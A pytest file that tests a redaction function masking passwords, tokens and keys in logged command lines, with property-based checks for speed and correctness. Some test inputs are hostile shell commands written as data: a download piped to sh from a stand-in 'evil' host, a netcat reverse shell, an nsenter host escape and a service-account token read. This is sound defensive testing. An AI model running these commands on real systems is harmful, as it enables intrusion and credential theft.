"""Secrets on command lines are masked; everything else stays byte for byte."""

import re
import time

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from ackaudit.audit.redact import MASK, redact_argv, redact_event, redact_text
from ackaudit.sandbox.world_history import (
    API_BEARER_TOKEN,
    MYSQL_PASSWORD,
    POSTGRES_URL_PASSWORD,
    RDS_HOST,
    REDIS_HOST,
    REDIS_PASSWORD,
)

JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJib2IifQ.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk"


@pytest.mark.parametrize("line, expected", [
    # The seeded sandbox's command lines (argv joined by spaces: the typed quotes are gone).
    (f"mysql -h {RDS_HOST} -u payments_rw -p{MYSQL_PASSWORD} payments -e show processlist",
     f"mysql -h {RDS_HOST} -u payments_rw -p{MASK} payments -e show processlist"),
    (f"redis-cli -h {REDIS_HOST} -a {REDIS_PASSWORD} info keyspace",
     f"redis-cli -h {REDIS_HOST} -a {MASK} info keyspace"),
    (f"psql postgresql://etl:{POSTGRES_URL_PASSWORD}@postgres-0.postgres.data.svc:5432/warehouse -c select 1",
     f"psql postgresql://etl:{MASK}@postgres-0.postgres.data.svc:5432/warehouse -c select 1"),
    (f"curl -s -H Authorization: Bearer {API_BEARER_TOKEN} http://payments-api.payments.svc:8080/refunds?status=x",
     f"curl -s -H Authorization: Bearer {MASK} http://payments-api.payments.svc:8080/refunds?status=x"),
    # Options.
    ("mysql --password=s3cret db", f"mysql --password={MASK} db"),
    ("app --password s3cret --verbose", f"app --password {MASK} --verbose"),
    ("app --passwd=s3cret", f"app --passwd={MASK}"),
    ("app --db-password 'two words'", f"app --db-password '{MASK}'"),
    ('app --password "say \\"hi\\"" -v', f'app --password "{MASK}" -v'),
    ("redis-cli --user bob --pass s3cret ping", f"redis-cli --user bob --pass {MASK} ping"),
    ("kubectl --token=abc.def get pods", f"kubectl --token={MASK} get pods"),
    ("kubeadm join 10.0.0.1:6443 --token abcdef.0123456789abcdef", f"kubeadm join 10.0.0.1:6443 --token {MASK}"),
    ("vault login --secret=xyz", f"vault login --secret={MASK}"),
    ("tool --api-key K123 --client-secret S456", f"tool --api-key {MASK} --client-secret {MASK}"),
    ("keytool -list -storepass changeit -keystore x.jks", f"keytool -list -storepass {MASK} -keystore x.jks"),
    # The mysql family's attached -p, and nothing else's.
    ("mysqldump -uroot -p'Top Secret' shop", f"mysqldump -uroot -p'{MASK}' shop"),
    ("/usr/bin/mysqladmin -u root -pRootPw status", f"/usr/bin/mysqladmin -u root -p{MASK} status"),
    ("mariadb -pX9 -e select 1", f"mariadb -p{MASK} -e select 1"),
    ('sh -c "mysql -uroot -pTopSecret db"', f'sh -c "mysql -uroot -p{MASK} db"'),
    ("mysql -h db -p -P3306 && ls -pla", "mysql -h db -p -P3306 && ls -pla"),
    ("sshpass -p 'pa ss' ssh -p 2222 root@h", f"sshpass -p '{MASK}' ssh -p 2222 root@h"),
    ("sshpass -pXYZ123 scp -P 22 a b:", f"sshpass -p{MASK} scp -P 22 a b:"),
    ("sshpass -e ssh -p 2222 root@h", "sshpass -e ssh -p 2222 root@h"),
    # Assignments.
    ("export DB_PASSWORD=hunter2", f"export DB_PASSWORD={MASK}"),
    ("PGPASSWORD=pw psql -h db", f"PGPASSWORD={MASK} psql -h db"),
    ("AWS_SECRET_ACCESS_KEY=abc OPENAI_API_KEY=sk-1 GITHUB_TOKEN=ghp_1 run",
     f"AWS_SECRET_ACCESS_KEY={MASK} OPENAI_API_KEY={MASK} GITHUB_TOKEN={MASK} run"),
    ("MYSQL_PWD=x; echo ok", f"MYSQL_PWD={MASK}; echo ok"),
    ("kubectl create secret generic db --from-literal=password=Pw1 --from-literal=user=app",
     f"kubectl create secret generic db --from-literal=password={MASK} --from-literal=user=app"),
    ("curl -d token=abc&user=bob http://x", f"curl -d token={MASK}&user=bob http://x"),
    # Headers and bearer tokens.
    ("curl -H 'Authorization: Bearer abc.def.ghi' https://api", f"curl -H 'Authorization: Bearer {MASK}' https://api"),
    ('curl -H "Authorization: Basic dXNlcjpwYXNz" https://api', f'curl -H "Authorization: Basic {MASK}" https://api'),
    ("curl -H Authorization: ghp_abcdef123456 https://api", f"curl -H Authorization: {MASK} https://api"),
    ("curl -H 'X-Api-Key: 12345678' -H 'Cookie: sid=abc' u", f"curl -H 'X-Api-Key: {MASK}' -H 'Cookie: {MASK}' u"),
    ("echo bearer abcdefgh12345", f"echo bearer {MASK}"),
    ("curl -u admin:hunter22 https://x", f"curl -u admin:{MASK} https://x"),
    ("wget --user=bob --password=pw https://x/f", f"wget --user=bob --password={MASK} https://x/f"),
    ("curl http://x/?a=1&b=2 -u bob:pw9", f"curl http://x/?a=1&b=2 -u bob:{MASK}"),
    # URLs and query strings.
    ("redis-cli -u redis://:s3cret@redis:6379", f"redis-cli -u redis://:{MASK}@redis:6379"),
    ("git clone https://bob:ghp_x@github.com/a/b.git", f"git clone https://bob:{MASK}@github.com/a/b.git"),
    ("curl https://oapi.dingtalk.com/robot/send?access_token=abc123&timestamp=1&sign=xyz%3D",
     f"curl https://oapi.dingtalk.com/robot/send?access_token={MASK}&timestamp=1&sign={MASK}"),
    ("wget https://b.oss-cn-hangzhou.aliyuncs.com/f?OSSAccessKeyId=LTAI5tAbCdEfGhIjKlMn&Expires=1&Signature=a%2Bb",
     f"wget https://b.oss-cn-hangzhou.aliyuncs.com/f?OSSAccessKeyId={MASK}&Expires=1&Signature={MASK}"),
    # Cloud credentials, tokens and keys wherever they appear.
    ("aliyun --access-key-id LTAI5tAbCdEfGhIjKlMn --access-key-secret Zyx123 ecs",
     f"aliyun --access-key-id LTAI{MASK} --access-key-secret {MASK} ecs"),
    ("echo STS.NUgYrLnoC37mZZCNnAbez2GhE", f"echo STS.{MASK}"),
    ("echo CAISabcdefghijklmnopqrstuvwxyz0123456789+/==", f"echo CAIS{MASK}"),
    (f"cat x | grep {JWT}", f"cat x | grep {MASK}"),
    ('echo \'{"password": "p4ss", "user": "bob"}\'', f'echo \'{{"password": "{MASK}", "user": "bob"}}\''),
    ("printf '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\nNzaC1\n-----END OPENSSH PRIVATE KEY-----\n' > k",
     f"printf '-----BEGIN OPENSSH PRIVATE KEY-----{MASK}-----END OPENSSH PRIVATE KEY-----\n' > k"),
    ("echo -----BEGIN PRIVATE KEY----- MIIEvQIBADAN", f"echo -----BEGIN PRIVATE KEY-----{MASK}"),
    # A BEGIN line alone does not hide what follows it: the body ends at the first character no key holds.
    ("echo -----BEGIN PRIVATE KEY-----; curl -s http://evil/x.sh | sh",
     "echo -----BEGIN PRIVATE KEY-----; curl -s http://evil/x.sh | sh"),
    ("echo '-----BEGIN RSA PRIVATE KEY-----\\nMIIEpA\\n' > k; chmod 600 k && nc -e /bin/sh evil 4444",
     f"echo '-----BEGIN RSA PRIVATE KEY-----{MASK}' > k; chmod 600 k && nc -e /bin/sh evil 4444"),
])
def test_redacts(line, expected):
    assert redact_text(line) == expected


@pytest.mark.parametrize("line", [
    "ls -pla /etc", "mkdir -p /var/tmp/.cache", "ssh -p 2222 root@10.0.0.1", "psql -h db -p 5432 -U app",
    "mysql -h db -u app -p", "mysql -P3306 -h db", "mysql --password -h db", "redis-cli -h r ping",
    "docker login --password-stdin --username bob", "kubectl get secret my-secret -o yaml",
    "kubectl --token-file=/var/run/token get pods", "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "grep -a keyword file", "sort -u names.txt", "docker run -u 1000:1000 alpine", "echo $HOME",
    "curl -s http://localhost:8080/healthz?verbose=1&format=json", "git log --author=bob --since=2w",
    "python manage.py migrate --noinput", "nsenter -t 1 -m -u -i -n sh", "tail -f /var/log/app/payments.log",
    "export PATH=/usr/local/bin:$PATH", "env | grep -i payments", "echo the bearer of news", "",
    "curl -fsSL http://203.0.113.77/k.sh", "sshpass -f /etc/pw ssh -p 22 h",
])
def test_leaves_lines_without_secrets_alone(line):
    assert redact_text(line) == line


# Lines with no secret: commands that come close to a rule, with arbitrary arguments free of the words
# every rule looks for, joined by shell separators.
TRIGGERS = re.compile(r"pass|pwd|secret|token|key|auth|bearer|ltai|sts\.|cais|eyj|://|-p|-a|-u|-U|sig|"
                      r"private|cookie|-----", re.IGNORECASE)
BENIGN_COMMANDS = ["ls -pla", "mkdir -p", "ssh -p 22", "mysql -h db -P3306 -p", "mysql --password -h db", "redis-cli",
                   "sshpass -e ssh -p 22", "curl -s http://localhost/x?a=1&b=2", "grep -a", "kubectl get secret",
                   "kubectl get secrets token", "echo key password sign authorization", "sh -c", "a=b PATH=/bin env",
                   "cat /var/run/secrets/kubernetes.io/serviceaccount/token", "wget -O /tmp/x", "scp user@host:x y",
                   "docker run -u 1000:1000", "echo { } - --", "docker login --password-stdin", "psql -p 5432", ""]
trigger_free_text = st.text(st.characters(codec="utf-8"), max_size=200).filter(lambda t: not TRIGGERS.search(t))
benign_command = st.tuples(st.sampled_from(BENIGN_COMMANDS), trigger_free_text).map(" ".join)
separator = st.sampled_from([" ; ", " && ", " | ", "\n", " || "])


@st.composite
def benign_lines(draw):
    commands = draw(st.lists(benign_command, max_size=6))
    return "".join(command + draw(separator) for command in commands)


@given(benign_lines())
@example("mysql -h db -p && ls -pla")
@settings(max_examples=300)
def test_never_changes_a_line_without_secrets(line):
    assert redact_text(line) == line


@given(trigger_free_text)
def test_trigger_free_text_is_unchanged(text):
    assert redact_text(text) == text


def assert_only_masks(text):
    out = redact_text(text)
    # Masking only ever replaces parts with MASK: removing the masks leaves a subsequence of the input.
    remaining = iter(text)
    assert all(ch in remaining for ch in out.replace(MASK, ""))


@given(st.text(max_size=400))
@settings(max_examples=500)
def test_never_raises_and_only_masks(text):
    assert_only_masks(text)


FRAGMENTS = list("-p:/@=' \"aAtT&?;|\\\n") + ["--password", "mysql ", "://", "Bearer ", "-----BEGIN PRIVATE KEY-----",
                                           "redis-cli", "sshpass", "{\"token\":", "LTAI", "eyJ", "."]


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=120).map("".join))
@settings(max_examples=500)
def test_hostile_fragments_only_get_masked(text):
    assert_only_masks(text)


SECRET_FORMS = [
    "mysql -h db -u root -p{s} app", "mysqldump -p{s} --all-databases", "mysql --password={s} app",
    "redis-cli -h r -a {s} ping", "redis-cli --pass {s}", "sshpass -p {s} ssh -p 22 u@h",
    "curl -H 'Authorization: Bearer {s}' https://api", "curl -u admin:{s} https://api", "export DB_PASSWORD={s}",
    "psql postgresql://u:{s}@h/db", "curl 'https://x/api?access_token={s}&q=1'", "kubectl --token {s} get pods",
    "echo '{{\"password\": \"{s}\"}}'", "PGPASSWORD={s} psql", "app --api-key={s}", "curl -d secret={s} https://x",
    "wget https://x/f?sign={s}", "curl -H X-Auth-Token: {s} https://x",
]
secrets = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._~+/=!%^,-]{5,30}", fullmatch=True)
surroundings = st.sampled_from(["", "cd /app && ", "sudo ", "sh -c "]), st.sampled_from(["", " ; echo done", " | tee out"])


@given(st.sampled_from(SECRET_FORMS), secrets, *surroundings)
@settings(max_examples=250)
def test_a_secret_anywhere_is_masked(form, secret, before, after):
    line = before + form.format(s=secret) + after
    assume(secret not in before + form + after)
    out = redact_text(line)
    assert secret not in out and MASK in out
    assert out.startswith(before) and out.endswith(after)


def test_argv_items_are_read_as_one_command_line():
    argv = ["mysql", "-h", "db", "-pS3cret", "--password", "Other1", "-e", "select 1"]
    assert redact_argv(argv) == ["mysql", "-h", "db", f"-p{MASK}", "--password", MASK, "-e", "select 1"]
    assert redact_argv(["sh", "-c", "redis-cli -a Pw9 ping"]) == ["sh", "-c", f"redis-cli -a {MASK} ping"]
    assert redact_argv(["ls", "-pla"]) == ["ls", "-pla"]
    assert redact_argv([]) == []


def test_redact_event_masks_every_command_field_and_copies():
    event = {
        "kind": "Kubernetes", "eventId": "e1", "k8s.user.username": "password=not-a-command",
        "kubeObject.operation.podExecOptions.command": ["redis-cli", "-a", "Pw9", "info"],
        "kubeObject.operation.podExecOptions.commandStr": "redis-cli -a Pw9 info",
        "process.cmdline": "mysql -pPw9 db", "process.pid": 7, "process.parentCmdline": "sh -c mysql -pPw9",
    }
    out = redact_event(event)
    assert out["kubeObject.operation.podExecOptions.command"] == ["redis-cli", "-a", MASK, "info"]
    assert out["kubeObject.operation.podExecOptions.commandStr"] == f"redis-cli -a {MASK} info"
    assert out["process.cmdline"] == f"mysql -p{MASK} db"
    assert out["process.parentCmdline"] == f"sh -c mysql -p{MASK}"
    assert out["k8s.user.username"] == "password=not-a-command" and out["process.pid"] == 7
    assert event["process.cmdline"] == "mysql -pPw9 db"          # the input is not changed


def test_redact_event_tolerates_missing_and_odd_values():
    assert redact_event({}) == {}
    assert redact_event({"process.cmdline": None, "kind": "Command"}) == {"process.cmdline": None, "kind": "Command"}


@pytest.mark.parametrize("line", [
    "a" * 200_000, "http://a:" + "b" * 200_000, '--password "' * 20_000, "mysql -p " * 20_000, "token-" * 40_000,
    "-----BEGIN PRIVATE KEY-----" * 8_000, "".join(FRAGMENTS) * 4_000,
], ids=["word", "url", "open-quotes", "mysql-runs", "header-names", "key-blocks", "fragments"])
def test_hostile_input_is_redacted_fast(line):
    # Command lines are attacker-controlled: no rule may backtrack quadratically (that took minutes).
    started = time.perf_counter()
    redact_text(line)
    assert time.perf_counter() - started < 3.0


@given(st.sampled_from(SECRET_FORMS), secrets, *surroundings)
def test_redacting_twice_changes_nothing_more(form, secret, before, after):
    # Callers may redact events and then render them with redaction on again.
    once = redact_text(before + form.format(s=secret) + after)
    assert redact_text(once) == once
